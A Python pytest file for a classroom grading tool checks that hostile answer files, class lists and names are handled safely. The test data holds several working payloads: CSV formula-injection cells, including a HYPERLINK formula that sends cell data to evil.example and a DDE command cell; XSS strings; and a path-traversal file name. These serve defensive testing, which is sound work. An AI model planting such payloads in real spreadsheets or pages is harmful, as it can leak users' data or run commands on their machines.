"""Issue 13: the teacher's tools tried as a hostile student and a careless teacher would.

Each case of the issue is a test here: whatever a student or a teacher puts in a file, `check`,
`sheets` and `grade` finish, every bad file is its own row, and the output is safe to open.
"""
from __future__ import annotations

import csv
import html
import json
import os
import re
import threading
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from maca.__main__ import main
from maca.exercises import Progress, Worksheet, load_set, student_seed
from maca.exercises.files import MAX_CELL, cell, read_capped
from maca.exercises.grading import grade_files, grade_progress
from maca.exercises.roster import ClassListError, Student, file_stem, parse_class, read_class
from maca.exercises.session import answers_file_name
from maca.exercises.sets import MAX_COUNT, MAX_EXERCISES, parse_set
from maca.exercises.sheets import _SAVE_SCRIPT, html_sheet, notebook_sheet, write_sheets
from maca.exercises.text import AnswersFileError, ExerciseError
from maca.words import Text

ROOT = Path(__file__).resolve().parent.parent
PASSING = ROOT / "exercises" / "passing.toml"
COURSE, ASSIGNMENT = "MAT101", "hafta-3"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def run(*args: str) -> int:
    return main([*args, "--lang", "en"])


def grades(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    """A CSV the tools write as a spreadsheet sees it: a BOM, then cells read with the csv
    module."""
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    for row in table:
        for value in row:
            assert not value.startswith(FORMULA), value
            assert len(value) <= MAX_CELL
    return table[0], [dict(zip(table[0], row)) for row in table[1:]]


def sheet(student: str, set_path: Path = PASSING, course: str = COURSE,
          assignment: str = ASSIGNMENT) -> Worksheet:
    return Worksheet.for_student(load_set(set_path), course, assignment, student)


def save(folder: Path, name: str, content: Progress | dict[str, Any] | str | bytes) -> Path:
    folder.mkdir(exist_ok=True)
    if isinstance(content, Progress):
        content = content.to_json()
    elif isinstance(content, dict):
        content = json.dumps(content)
    path = folder / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def grade(tmp_path: Path, *extra: str, set_path: Path = PASSING
          ) -> tuple[dict[str, dict[str, str]], dict[str, dict[str, str]]]:
    """The gradebook's rows by student id and the files report's rows by file."""
    out = tmp_path / "grades.csv"
    assert run("grade", "--set", str(set_path), "--answers", str(tmp_path / "answers"),
               "--out", str(out), *extra) == 0
    _, book = grades(out)
    _, files = grades(tmp_path / "grades-files.csv")
    return {row["Student ID"]: row for row in book}, {row["File"]: row for row in files}


# -- 1. one student stops the grading of the whole class -------------------------------------
@pytest.mark.parametrize("typed", ["²", "①", "٣", "３", "2²", "-1", "1e1"])
def test_any_digit_a_student_types_is_a_wrong_answer_not_a_crash(tmp_path: Path,
                                                                  typed: str) -> None:
    work = sheet("s1")
    first = work.exercises.exercises[0]
    doc = work.progress.to_dict()
    doc["answers"] = {first.id: {"answer": typed, "tries": 1, "hints": 0}}
    save(tmp_path / "answers", "answers-passing-s1.json", doc)
    book, rows = grade(tmp_path)
    assert book["s1"]["Q1"] == "0" and "unreadable answer" in book["s1"]["Status"]
    assert "unreadable answer" in rows["answers-passing-s1.json"]["Status"]
    # the same answer reopens the widget's session: shown as wrong, and why
    again = Worksheet.open(PASSING, student="s1", course=COURSE, assignment=ASSIGNMENT,
                           folder=tmp_path / "answers")
    assert again[first.id].result is not None and not again[first.id].result.passed


# -- 2. self-reported flags --------------------------------------------------------------------
HINTED = PASSING.read_text(encoding="utf-8").replace("seed = 1\n", "seed = 1\nhint_cost = 1\n")


def test_hints_counted_or_ignored_and_unusual_histories_reported(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    set_path = tmp_path / "passing.toml"
    set_path.write_text(HINTED, encoding="utf-8")
    base = load_set(set_path)
    answers = tmp_path / "answers"
    # honest, one hint a question
    honest = sheet("s1", set_path)
    for attempt in honest:
        attempt.hint()
        attempt.submit(attempt.exercise.answer())
    save(answers, "answers-passing-s1.json", honest.progress)
    # "revealed every solution and pasted them in"
    pasted = sheet("s2", set_path)
    doc = pasted.progress.to_dict()
    doc["answers"] = {e.id: {"answer": e.answer(), "tries": 1, "hints": 0, "solution_seen": True}
                      for e in pasted.exercises}
    save(answers, "answers-passing-s2.json", doc)
    # hints the exercise does not have, an answer with no try
    odd = sheet("s3", set_path)
    first, second = odd.exercises.exercises[:2]
    doc = odd.progress.to_dict()
    doc["answers"] = {first.id: {"answer": first.answer(), "tries": 1, "hints": 99},
                      second.id: {"answer": second.answer(), "tries": 0}}
    save(answers, "answers-passing-s3.json", doc)

    _, counted = grade(tmp_path, set_path=set_path)
    printed = capsys.readouterr().out
    assert "2 files claim unusual histories" in printed and "hints: counted" in printed
    full = base.max_score
    with_hints = full - sum(min(e.points, 1) for e in base if e.hints)
    assert int(counted["answers-passing-s1.json"]["Points"]) == with_hints < full
    assert counted["answers-passing-s2.json"]["Points"] == "0"
    assert "unusual: a right answer after the solution was seen" in \
        counted["answers-passing-s2.json"]["Status"]
    status = counted["answers-passing-s3.json"]["Status"]
    assert f"{first.id}: unusual: 99 hints used" in status
    assert f"{second.id}: unusual: an answer with no try" in status
    assert "unusual" not in counted["answers-passing-s1.json"]["Status"]

    _, ignored = grade(tmp_path, "--hints", "ignored", set_path=set_path)
    assert "hints: ignored" in capsys.readouterr().out
    assert ignored["answers-passing-s1.json"]["Points"] == str(full)
    assert ignored["answers-passing-s2.json"]["Points"] == str(full)
    assert "unusual" in ignored["answers-passing-s2.json"]["Status"]  # still reported


def test_a_bad_hints_policy_is_refused(tmp_path: Path) -> None:
    with pytest.raises(SystemExit):
        main(["grade", "--set", str(PASSING), "--answers", str(tmp_path), "--out",
              str(tmp_path / "g.csv"), "--hints", "free"])
    with pytest.raises(Exception, match="use counted or ignored"):
        grade_files(load_set(PASSING), [], hints="free")


# -- 3. one student blocks another -------------------------------------------------------------
def test_the_file_named_after_the_student_wins_and_every_claim_is_reported(tmp_path: Path) -> None:
    answers = tmp_path / "answers"
    real = sheet("s4")
    for attempt in real:
        attempt.submit(attempt.exercise.answer())
    save(answers, "answers-passing-s4.json", real.progress)
    evil = sheet("s4")
    for attempt in evil:
        attempt.submit("none")
    save(answers, "0000-evil.json", evil.progress)
    _, rows = grade(tmp_path)
    assert rows["answers-passing-s4.json"]["Points"] == str(load_set(PASSING).max_score)
    assert "other files also claim student 's4' (0000-evil.json (" in \
        rows["answers-passing-s4.json"]["Status"]
    lost = rows["0000-evil.json"]
    assert lost["Status"].startswith("error: ") and "answers-passing-s4.json, the name the tools give the student's file, was graded" in \
        lost["Status"] and lost["Points"] == ""


def test_claims_with_no_file_named_after_the_student_grade_none(tmp_path: Path) -> None:
    answers = tmp_path / "answers"
    save(answers, "a.json", sheet("s5").progress)
    save(answers, "b.json", sheet("s5").progress)
    save(answers, "S6.JSON", sheet("s6").progress)   # the name matches, whatever its case
    save(answers, "x.json", sheet("s6").progress)
    _, rows = grade(tmp_path)
    for name in ("a.json", "b.json"):
        assert "several files claim student 's5' (" in rows[name]["Status"]
        assert "keep it as answers-passing-s5.json" in rows[name]["Status"]
    # only the exact name the tools give wins a tie: S6.JSON does not
    for name in ("S6.JSON", "x.json"):
        assert rows[name]["Status"].startswith("error: several files claim student 's6'")


# -- 4. formula injection, long messages, BOM --------------------------------------------------
HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+s9", "-2+3",
               " =1+1"]   # ids with a tab or CR are refused (see test_control_characters_…)


def test_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    answers = tmp_path / "answers"
    for number, sid in enumerate(HOSTILE_IDS):
        work = Worksheet.for_student(load_set(PASSING), COURSE, "=1+1", sid)
        doc = work.progress.to_dict()
        doc["=cmd|' /C calc'!A0"] = "@x"
        doc["answers"] = {"+bogus": {"answer": "=1+1", "tries": 1}}
        save(answers, f"{number}.json", doc)
    save(answers, "=2+2.json", "@broken")
    many = sheet("s1").progress.to_dict()
    many.update({f"field{i}": 1 for i in range(5000)}, **{"x" * 500_000: 1})
    many["answers"] = {"p": {"answer": "y" * 100_000, "tries": 1}}
    save(answers, "huge.json", json.dumps(many))
    book, rows = grade(tmp_path)
    assert {row["Student ID"] for row in rows.values()} >= {"'" + h if h.lstrip(" ")[0] in
                                                            "=+-@" or h[0] in "\t\r" else h
                                                            for h in HOSTILE_IDS}
    assert rows["'=2+2.json"]["Status"].startswith("error: ")
    assert {row["Assignment"] for row in book.values()} == {"'=1+1"}
    assert all(len(row["Status"]) <= MAX_CELL for row in rows.values())
    assert rows["huge.json"]["Status"].startswith("ok") and rows["huge.json"]["Status"].endswith("…")
    # the sheets' index too
    (tmp_path / "class.csv").write_text("student_id,name\n" + "".join(
        f'"{h.replace(chr(34), chr(34) * 2)}",@name\n' for h in HOSTILE_IDS[:4]),
        encoding="utf-8")
    assert run("sheets", "--set", str(PASSING), "--class", str(tmp_path / "class.csv"),
               "--course", COURSE, "--assignment", "=1+1", "--out", str(tmp_path / "s")) == 0
    index = tmp_path / "s" / "teacher" / "index.csv"
    _, listed = grades(index)
    assert [r["student_id"] for r in listed] == ["'" + h for h in HOSTILE_IDS[:4]]
    assert {r["name"] for r in listed} == {"'@name"}


def test_a_cell_is_cut_with_an_ellipsis() -> None:
    assert cell("é" * 5000) == "é" * (MAX_CELL - 1) + "…"
    assert cell(-5) == -5 and cell(None) == "" and cell("ok") == "ok"


def test_turkish_letters_survive_in_excel(tmp_path: Path) -> None:
    save(tmp_path / "answers", "x.json", sheet("ayşe.yılmaz").progress)
    grade(tmp_path)
    data = (tmp_path / "grades.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and "ayşe.yılmaz".encode() in data


# -- 5. file names ---------------------------------------------------------------------------
def test_a_student_called_index_cannot_overwrite_the_teachers_index(tmp_path: Path) -> None:
    students = [Student("index", "İndeks"), Student("con"), Student("teacher")]
    entries = write_sheets(PASSING, students, COURSE, ASSIGNMENT, tmp_path)
    assert [e.file for e in entries] == ["students/index.html", "students/_con.html",
                                         "students/teacher.html"]
    teacher = (tmp_path / "teacher" / "index.html").read_text(encoding="utf-8")
    assert "cevaplar / answers" in teacher and 'href="../students/index.html"' in teacher
    student = (tmp_path / "students" / "index.html").read_text(encoding="utf-8")
    assert "cevaplar / answers" not in student and "İndeks" in student


@pytest.mark.parametrize("one, other", [("AB", "ab"), ("ayşe", "ayse"), ("Çağrı", "cagri"),
                                        ("a/b", "a_b")])
def test_ids_giving_one_file_name_are_refused_naming_both(tmp_path: Path, one: str,
                                                          other: str) -> None:
    with pytest.raises(ClassListError, match=re.escape(f"{one!r} and {other!r} give the same")):
        parse_class(f"student_id\n{one}\n{other}\n", "c.csv")
    with pytest.raises(ExerciseError, match=re.escape(f"{one!r} and {other!r} give the same")):
        write_sheets(PASSING, [Student(one), Student(other)], COURSE, ASSIGNMENT, tmp_path)


def test_turkish_letters_give_distinct_names_and_windows_names_are_avoided() -> None:
    assert file_stem("ayşe") != file_stem("ayçe")
    assert parse_class("student_id\nayşe\nayçe\n")[1].id == "ayçe"
    for reserved in ("con", "PRN", "aux", "nul", "com1", "LPT9", "con.txt"):
        assert file_stem(reserved).startswith("_")
    assert answers_file_name("passing", "nul") == "answers-passing-_nul.json"
    assert file_stem("..") == "_" and "/" not in file_stem("../../etc/passwd")


# -- 6. the teacher's own files: hangs and crashes ----------------------------------------------
def test_a_huge_count_or_set_is_refused_at_once(tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    head = 'title = {tr = "D", en = "T"}\n'
    huge = tmp_path / "huge.toml"
    huge.write_text(head + '[[generate]]\nid = "g"\nkind = "legal_cards"\ncount = 1000000\n')
    many = tmp_path / "many.toml"
    many.write_text(head + "".join(f'[[generate]]\nid = "g{i}"\nkind = "pass_direction"\n'
                                   f"count = {MAX_COUNT}\n" for i in range(3)))
    assert run("check", str(huge), str(many)) == 1
    err = capsys.readouterr().err
    assert f"count must be a whole number from 1 to {MAX_COUNT}, not 1000000" in err
    assert f"a set holds at most {MAX_EXERCISES}" in err and "split it" in err
    for command in (["sheets", "--class", str(tmp_path / "c.csv"), "--course", "C",
                     "--assignment", "A", "--out", str(tmp_path / "o")],
                    ["grade", "--answers", str(tmp_path / "answers"), "--out",
                     str(tmp_path / "g.csv")]):
        (tmp_path / "answers").mkdir(exist_ok=True)
        (tmp_path / "c.csv").write_text("student_id\n1\n")
        assert run(command[0], "--set", str(huge), *command[1:]) == 2
        assert "count must be a whole number" in capsys.readouterr().err


def _with_timeout(call: Any, seconds: float = 20) -> Any:
    """Run ``call`` in a thread: a hang fails the test instead of stopping the suite."""
    result: dict[str, Any] = {}

    def target() -> None:
        try:
            result["value"] = call()
        except BaseException as exc:  # handed to the test's thread
            result["error"] = exc

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), "hung"
    if "error" in result:
        raise result["error"]
    return result.get("value")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_special_files_are_refused_before_opening(tmp_path: Path) -> None:
    answers = tmp_path / "answers"
    answers.mkdir()
    outside = tmp_path / "outside.json"
    outside.write_text(sheet("s9").progress.to_json(), encoding="utf-8")
    (answers / "zero.json").symlink_to("/dev/zero")
    (answers / "passwd.json").symlink_to("/etc/passwd")
    (answers / "out.json").symlink_to(outside)
    os.mkfifo(answers / "fifo.json")
    (answers / "folder.json").mkdir()
    save(answers, "ok.json", sheet("s1").progress)
    _, rows = _with_timeout(lambda: grade(tmp_path))
    for name, kind in (("zero.json", "a symbolic link"), ("passwd.json", "a symbolic link"),
                       ("out.json", "a symbolic link"), ("fifo.json", "a pipe (FIFO)"),
                       ("folder.json", "a folder")):
        assert rows[name]["Status"].startswith("error: ") and kind in rows[name]["Status"], name
    assert rows["ok.json"]["Status"].startswith("ok") and "s9" not in rows
    # the teacher's own files: a FIFO or a device as the set or the class list
    for set_path in (answers / "fifo.json", Path("/dev/zero")):
        with pytest.raises(ExerciseError, match="not a file"):
            _with_timeout(lambda: load_set(set_path))
        with pytest.raises(ClassListError, match="not a file"):
            _with_timeout(lambda: read_class(set_path))


def test_sizes_are_measured_by_reading(tmp_path: Path) -> None:
    big = save(tmp_path, "big.json", "{" + " " * 2_000_000 + "}")
    with pytest.raises(AnswersFileError, match="larger than 1,000,000 bytes"):
        Progress.load(big)
    assert read_capped(big, 3_000_000, AnswersFileError, Text("d", "f"))[:1] == b"{"


# -- 7. class lists from real schools ----------------------------------------------------------
NAMES = "student_id;name\r\n2024001;Ayşe Çağrı Öztürk\r\n2024002;Gülşen İnce\r\n"


@pytest.mark.parametrize("encoding, note", [("utf-8", ""), ("utf-8-sig", ""),
                                             ("utf-16", "read as UTF-16"),
                                             ("utf-16-le", "read as UTF-16"),
                                             ("cp1254", "read as Windows Turkish (cp1254)")])
def test_class_lists_in_the_encodings_schools_use(tmp_path: Path, encoding: str,
                                                  note: str) -> None:
    path = tmp_path / "class.csv"
    path.write_bytes(NAMES.encode(encoding))
    students = read_class(path)
    assert [s.name for s in students] == ["Ayşe Çağrı Öztürk", "Gülşen İnce"]
    assert (note in students.note.en) if students.note else not note


@pytest.mark.parametrize("text", [NAMES.replace(";", ","), NAMES.replace(";", "\t"),
                                  NAMES.replace("\r\n", "\r"), NAMES.replace("\r\n", "\n"),
                                  NAMES + "\r\n \r\n"])
def test_separators_and_line_ends(text: str) -> None:
    assert [s.id for s in parse_class(text)] == ["2024001", "2024002"]


@pytest.mark.parametrize("text, line, problem", [
    ('student_id,name\n1,"Ayşe\n2,Can\n3,Efe\n', 2, "a quote (\") opens and is not closed"),
    ('student_id,name\n1,Ayşe\n2,"Can\n', 3, "a quote (\") opens and is not closed"),
    ("student_id,name\n1,Yılmaz, Ayşe\n", 2, "3 values but the header has 2 columns"),
    ("student_id,name\n1,A\n2," + "x" * 140_000 + "\n", 3, "a value is too long"),
    ("student_id,name\n1,A\n2," + "x" * 300 + "\n", 3, "at most 200 characters"),
    ("student_id,name\n1,A\n1,B\n", 3, "appears twice (also on line 2)"),
])
def test_a_malformed_row_is_an_error_naming_its_line(text: str, line: int, problem: str) -> None:
    with pytest.raises(ClassListError,
                       match=re.escape(f"c.csv: line {line}: ") + ".*" + re.escape(problem)):
        parse_class(text, "c.csv")


def test_a_class_list_that_is_not_text_says_how_to_save_it(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_bytes(b"student_id\n\x81\x8d\x8f\x90\x9d\n")
    with pytest.raises(ClassListError, match="save it from your spreadsheet as 'CSV UTF-8'"):
        read_class(path)


def test_class_size_is_limited() -> None:
    text = "student_id\n" + "".join(f"{i}\n" for i in range(1001))
    with pytest.raises(ClassListError, match="at most 1000 students"):
        parse_class(text, "c.csv")


def test_the_encoding_note_is_shown_to_the_teacher(tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "class.csv").write_bytes(NAMES.encode("cp1254"))
    assert run("sheets", "--set", str(PASSING), "--class", str(tmp_path / "class.csv"),
               "--course", COURSE, "--assignment", ASSIGNMENT, "--out", str(tmp_path / "o")) == 0
    assert "read as Windows Turkish (cp1254)" in capsys.readouterr().out
    assert "Gülşen İnce" in (tmp_path / "o" / "students" / "2024002.html").read_text("utf-8")


# -- 8. sheets: the Save button, notebook Markdown ---------------------------------------------
class _Scripts(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.meta: str | None = None
        self._in = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self._in = True
            self.scripts.append("")
        if tag == "button" and dict(attrs).get("id") == "save":
            self.meta = dict(attrs).get("data-meta")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in = False

    def handle_data(self, data: str) -> None:
        if self._in:
            self.scripts[-1] += data


HOSTILE_TEXT = '<!--<script></script>--> "\' & </script><b>x</b> *y* [z](http://e) # `c` $m$'


def test_the_save_buttons_data_is_never_inside_a_script() -> None:
    variant = load_set(PASSING)
    student = Student("s1", HOSTILE_TEXT)
    page = html_sheet(variant, HOSTILE_TEXT, HOSTILE_TEXT, student)
    parsed = _Scripts()
    parsed.feed(page)
    assert parsed.scripts == [_SAVE_SCRIPT]
    meta = json.loads(parsed.meta or "")
    assert meta["course"] == meta["assignment"] == HOSTILE_TEXT and meta["student_id"] == "s1"
    assert "<b>x</b>" not in page


def test_the_save_button_works_in_a_browser_whatever_the_names(tmp_path: Path) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path("/usr/bin/chromium").exists():
        pytest.skip("chromium is not installed")
    entry = write_sheets(PASSING, [Student("s1", HOSTILE_TEXT)], HOSTILE_TEXT, HOSTILE_TEXT,
                         tmp_path)[0]
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=[
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        page = browser.new_page(accept_downloads=True)
        page.goto((tmp_path / entry.file).as_uri())
        first = entry.variant.exercises[0]
        page.fill(f'input[data-id="{first.id}"]', "Batı")
        with page.expect_download() as info:
            page.click("#save")
        info.value.save_as(tmp_path / "answers.json")
        suggested = info.value.suggested_filename
        browser.close()
    progress = Progress.load(tmp_path / "answers.json")
    assert progress.course == progress.assignment == HOSTILE_TEXT
    assert progress.answers[first.id].answer == "Batı"
    assert suggested == "answers-passing-s1.json"


def test_notebook_markdown_shows_names_as_text() -> None:
    variant = load_set(PASSING)
    notebook = notebook_sheet(variant, PASSING.read_text("utf-8"), HOSTILE_TEXT, "A",
                              Student("s1", HOSTILE_TEXT))
    text = "".join(notebook["cells"][0]["source"])
    assert "<b>" not in text and "<script" not in text and "<!--" not in text
    assert "\\*y\\*" in text and "\\[z\\]\\(http" in text and "\\`c\\`" in text
    assert "\\$m\\$" in text and "\n#" not in text.split("\n", 1)[1]
    code = "".join(notebook["cells"][1]["source"])
    compile(code, "sheet", "exec")   # still one valid Python cell


# -- no exception escapes ------------------------------------------------------------------------
def test_a_bug_in_maca_is_a_row_or_a_message_never_a_traceback(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    import maca.exercises.grading as grading

    save(tmp_path / "answers", "a.json", sheet("s1").progress)
    work = sheet("s2")
    work.check(work.exercises.exercises[0].id, "Batı")
    save(tmp_path / "answers", "b.json", work.progress)

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("boom")

    monkeypatch.setattr(grading, "check", broken)
    _, rows = grade(tmp_path)
    assert "a bug in maca" in rows["b.json"]["Status"] and "a bug" not in rows["a.json"]["Status"]
    assert rows["a.json"]["Status"].startswith("ok")
    monkeypatch.setattr(grading, "grade_progress", broken)
    _, rows = grade(tmp_path)
    assert all("a bug in maca" in rows[n]["Status"] for n in ("a.json", "b.json"))
    monkeypatch.setattr(grading, "grade_files", broken)
    assert run("grade", "--set", str(PASSING), "--answers", str(tmp_path / "answers"),
               "--out", str(tmp_path / "g.csv")) == 3
    assert "a bug in maca (please report it): RuntimeError: boom" in capsys.readouterr().err


def test_grade_progress_of_another_set_is_a_row() -> None:
    progress = sheet("s1").progress
    progress.set_id = "hearts"
    row = grade_progress(load_set(PASSING), progress)
    assert row.error == "the answers are for set 'hearts', not 'passing'"


def test_messages_follow_the_teachers_language(tmp_path: Path) -> None:
    save(tmp_path / "answers", "a.json", "{")
    save(tmp_path / "answers", "b.json", sheet("s1", course="X").progress)
    out = tmp_path / "g.csv"
    assert main(["grade", "--set", str(PASSING), "--answers", str(tmp_path / "answers"),
                 "--out", str(out), "--course", COURSE, "--class",
                 str(save(tmp_path, "c.csv", "student_id\ns1\ns2\n"))]) == 0
    _, book = grades(out)
    _, files = grades(tmp_path / "g-files.csv")
    status = {r["Dosya"]: r["Durum"] for r in files}
    assert "dersi için" in status["b.json"] and set(status) == {"a.json", "b.json"}
    assert [(r["Öğrenci No"], r["Durum"]) for r in book] == [
        ("s1", "notlandırılmadı: b.json (dosyalar raporuna bakın)"), ("s2", "cevap dosyası yok")]


def test_html_escapes_hold_in_the_teachers_index(tmp_path: Path) -> None:
    write_sheets(PASSING, [Student("s1", "<img src=x onerror=alert(1)>")], "<i>C</i>", "A",
                 tmp_path)
    index = (tmp_path / "teacher" / "index.html").read_text("utf-8")
    assert "<img" not in index and "<i>C</i>" not in index
    assert html.escape("<img src=x onerror=alert(1)>") in index


def _problem(path: Path) -> Text:
    try:
        Progress.load(path)
    except AnswersFileError as exc:
        return exc.text
    raise AssertionError("read")


def test_a_broken_answers_file_is_explained_in_the_learners_language(tmp_path: Path) -> None:
    save(tmp_path, "answers-passing-s1.json", "{")
    with pytest.raises(AnswersFileError) as caught:
        Worksheet.open(PASSING, student="s1", folder=tmp_path)
    assert "okunamadı" in caught.value.message("tr")
    assert "not valid JSON" in caught.value.message("en")
    assert "geçerli bir JSON değil" in _problem(tmp_path / "answers-passing-s1.json").tr
    assert (tmp_path / "answers-passing-s1.json").read_text() == "{"   # left untouched
